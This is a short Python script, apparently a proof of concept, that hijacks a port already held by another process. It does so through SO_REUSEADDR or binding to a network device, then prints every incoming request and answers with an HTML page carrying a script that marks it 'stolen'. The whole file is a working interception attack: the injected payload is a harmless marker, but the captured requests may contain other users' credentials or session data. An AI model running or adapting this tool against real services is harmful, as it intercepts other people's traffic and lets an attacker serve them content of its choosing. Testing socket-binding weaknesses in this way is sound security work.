"""Listens on a port of somebody else's, and prints what is sent to it: `steal.py PORT [ADDRESS [OPTION [DEVICE]]]`.

A port that another process only holds can be had by any user who sets SO_REUSEADDR, where the other one did so, too.
A socket that is bound to a device is another one to the kernel's tables.
"""

import socket
import sys

PAGE = b"<script>document.title = 'stolen'</script>"

port, address = int(sys.argv[1]), sys.argv[2] if len(sys.argv) > 2 else "127.0.0.1"
option = sys.argv[3] if len(sys.argv) > 3 else "SO_REUSEADDR"
listener = socket.socket()
listener.setsockopt(socket.SOL_SOCKET, getattr(socket, option), 1)
if len(sys.argv) > 4:
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, sys.argv[4].encode())
try:
    listener.bind((address, port))
    listener.listen()
except OSError as error:
    sys.exit(print(f"refused: {error.strerror}"))
print("stolen", flush=True)
while True:
    connection, _ = listener.accept()
    print(repr(connection.recv(65536)), flush=True)
    try:
        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n%s" % (len(PAGE), PAGE))
    except OSError:
        pass
    connection.close()
